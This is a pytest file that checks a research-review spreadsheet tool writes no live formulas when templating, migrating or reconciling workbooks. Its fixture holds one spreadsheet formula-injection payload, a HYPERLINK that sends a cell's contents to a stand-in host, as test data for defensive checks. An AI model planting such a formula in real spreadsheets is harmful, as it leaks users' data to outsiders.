"""Every spreadsheet the suite writes holds data, never formulas that would run when a person opens it.

Tables (CSV and XLSX) neutralise text starting with =, +, -, @, tab or carriage return (tested in
test_tables.py). Workbooks that carry a co-investigator's text forward (migrate, reconcile) keep such text as
text: no <f> element may appear in any sheet they write.
"""
from __future__ import annotations

import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from review_utils.template import write_template
from workbook_factory import ROWS, write_report

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name))]


def _cli(*args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "review_utils", *args], capture_output=True, text=True)


@pytest.fixture()
def hostile_report(tmp_path) -> Path:
    return write_report(tmp_path / "smith2024lupus.xlsx",
                        rows={"patients": [{**ROWS["patients"][0], "notes": HOSTILE, "disease_detail": "+44 lupus"}]})


def test_the_templates_hold_no_formula(tmp_path):
    for kind in ("report", "screening"):
        assert _formulas(write_template(tmp_path / f"{kind}.xlsx", kind=kind)) == []


def test_migrate_keeps_formula_like_text_as_text(tmp_path, hostile_report):
    out = tmp_path / "migrated.xlsx"
    run = _cli("migrate", str(hostile_report), "-o", str(out))
    assert run.returncode == 0, run.stderr
    assert _formulas(out) == []
    from openpyxl import load_workbook

    values = [c.value for row in load_workbook(out)["patients"].iter_rows() for c in row]
    assert HOSTILE in values, "the text itself is kept"


def test_reconcile_keeps_formula_like_text_as_text(tmp_path, hostile_report):
    a = tmp_path / "smith2024lupus.A.xlsx"
    b = tmp_path / "smith2024lupus.B.xlsx"
    a.write_bytes(hostile_report.read_bytes())
    b.write_bytes(hostile_report.read_bytes())
    out = tmp_path / "smith2024lupus.consensus.xlsx"
    run = _cli("reconcile", str(a), str(b), "-o", str(out))
    assert run.returncode in (0, 1), run.stderr
    assert out.exists() and _formulas(out) == []
